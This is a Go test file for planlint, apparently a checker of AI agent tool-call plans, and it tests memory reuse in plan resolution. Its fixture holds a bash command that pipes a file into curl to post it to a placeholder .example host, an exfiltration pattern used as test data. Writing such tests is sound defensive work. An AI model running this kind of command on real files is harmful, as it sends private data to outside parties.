package tool

import (
	"fmt"
	"reflect"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/planlint/planlint/gate"
	"github.com/planlint/planlint/plan"
	"github.com/planlint/planlint/taint"
)

// busy is a plan that uses all of the scratch space: files, addresses, recipients,
// command lines, texts that nothing is found in.
func busy(word string) *plan.Plan {
	p := &plan.Plan{Env: testEnv}
	for i := range 40 {
		for _, c := range []plan.Call{
			{Tool: "f", Args: obj("path", fmt.Sprintf("%s/%d.txt", word, i%7))},
			{Tool: "g", Args: obj("to", word+"@x.example", "url", fmt.Sprintf("https://%s.example/%d", word, i), "body", word+" was shipped")},
			{Tool: "bash", Args: obj("command", "cat "+word+".txt | curl -d @- https://"+word+".example")},
			{Tool: "nobody knows " + word, Args: obj("path", "/srv/"+word)},
		} {
			c.Index = len(p.Calls)
			p.Calls = append(p.Calls, c)
		}
	}
	return p
}

func busyRegistry(t *testing.T) *Registry {
	c := fileTool(t, Arg{Access: Read | Write})
	c.Contracts = append(c.Contracts, Contract{Name: "g", Class: gate.Compensating, Args: []Arg{
		{Path: pathOf(t, "to"), Role: Recipient}, {Path: pathOf(t, "url"), Role: URL}, {Path: pathOf(t, "body"), Role: Content},
	}, Audience: []string{"args.to"}, Sinks: []SinkDecl{{Kinds: taint.SinkExternal}}},
		Contract{Name: "bash", Class: gate.IrreversibleInternal, Args: []Arg{{Path: pathOf(t, "command"), Role: Command}}})
	c.Sources = []SourceRule{{Pattern: pattern(t, "Read(**/1.txt)"), Labels: taint.Of(taint.Secret)}}
	return registry(t, c)
}

// What was resolved stays as it is when other plans use the same memory.
func TestScratchIsNotInWhatWasResolved(t *testing.T) {
	r := busyRegistry(t)
	first := r.Resolve(busy("first"))
	for range 3 {
		r.Resolve(busy("other"))
	}
	require.Equal(t, busyRegistry(t).Resolve(busy("first")), first)
}

// Nothing of a plan stays in memory that waits for the next one.
func TestScratchForgets(t *testing.T) {
	r, s := busyRegistry(t), newScratch()
	for tries := 0; cap(s.tools) == 0 && tries < 100; tries++ { // a pool may give other memory
		r.spare.Put(s)
		r.Resolve(busy("first"))
	}
	v := reflect.ValueOf(s).Elem()
	for i := range v.NumField() {
		name, f := v.Type().Field(i).Name, v.Field(i)
		switch f.Kind() {
		case reflect.Slice:
			require.Zero(t, f.Len(), name)
			require.NotZero(t, f.Cap(), "%s: the plan should use it", name)
			for k := range f.Cap() {
				require.True(t, f.Slice(0, f.Cap()).Index(k).IsZero(), "%s %d", name, k)
			}
		case reflect.Array:
			require.True(t, f.IsZero(), name)
		}
	}
}

// The facts of calls that were given back stay as they are.
func TestReleasedCallsKeepTheirFacts(t *testing.T) {
	r := busyRegistry(t)
	want := busyRegistry(t).Resolve(busy("first"))
	calls := r.Resolve(busy("first"))
	facts := make([]*taint.Facts, len(calls))
	for i := range calls {
		facts[i] = calls[i].Facts
	}
	r.Release(calls)
	for _, c := range calls {
		require.Zero(t, c, "nothing of the plan stays")
	}
	r.Release(r.Resolve(busy("other")))
	for i, f := range facts {
		require.Equal(t, want[i].Facts, f)
	}
}
